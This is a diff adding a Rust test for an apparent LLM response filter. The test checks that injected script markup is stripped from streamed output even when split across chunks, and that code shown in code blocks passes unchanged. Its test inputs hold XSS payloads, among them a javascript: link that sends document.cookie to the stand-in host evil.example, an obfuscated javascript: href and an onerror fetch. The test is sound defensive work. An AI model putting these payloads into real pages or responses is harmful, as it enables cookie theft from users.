@@ -1028,3 +1028,49 @@ mod leaks {
         );
     }
 }
+
+#[test]
+fn script_markup_is_removed_mid_stream_and_shown_code_is_not() {
+    let hostile = [
+        "Here is your link: [claim](java",
+        "script:fetch('//evil.example/'+document.cookie)) and ",
+        "<a href=\"java&#x09;script:steal()\">this</a> and <img src=x on",
+        "error=\"fetch('//evil.example')\"> and <scr",
+        "ipt>alert(1)</script> done.",
+    ];
+    let input = openai_events(&hostile);
+    for cut in (0..input.len()).step_by(7) {
+        let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
+        let mut out = Vec::new();
+        r.push(&input[..cut], &mut out);
+        r.push(&input[cut..], &mut out);
+        r.finish(&mut out);
+        let text = texts(&out);
+        for gone in ["javascript:fetch", "script:steal", "onerror", "<script>"] {
+            assert!(!text.contains(gone), "cut {cut}: {gone} left in {text}");
+        }
+        assert!(
+            text.starts_with("Here is your link: ") && text.ends_with("done."),
+            "{text}"
+        );
+        let ids: Vec<&str> = r.findings().iter().map(|f| f.detector).collect();
+        for id in [
+            "script_link",
+            "script_url_attribute",
+            "event_handler",
+            "script_tag",
+        ] {
+            assert!(ids.contains(&id), "cut {cut}: {ids:?}");
+        }
+    }
+    // a coding answer shows the same markup in code: it passes unchanged
+    let shown = [
+        "Add a handler:\n\n```html\n<button onclick=\"go()\">Go</button>\n<scr",
+        "ipt src=\"app.js\"></script>\n```\n\nor write `<a href=\"javascript:void(0)\">` ",
+        "inline.",
+    ];
+    let mut r = rewriter(Box::new(rampart_llm::openai::OpenAi));
+    let text = texts(rewrite(&mut r, &openai_events(&shown)));
+    assert_eq!(text, shown.concat());
+    assert!(r.findings().is_empty(), "{:?}", r.findings());
+}
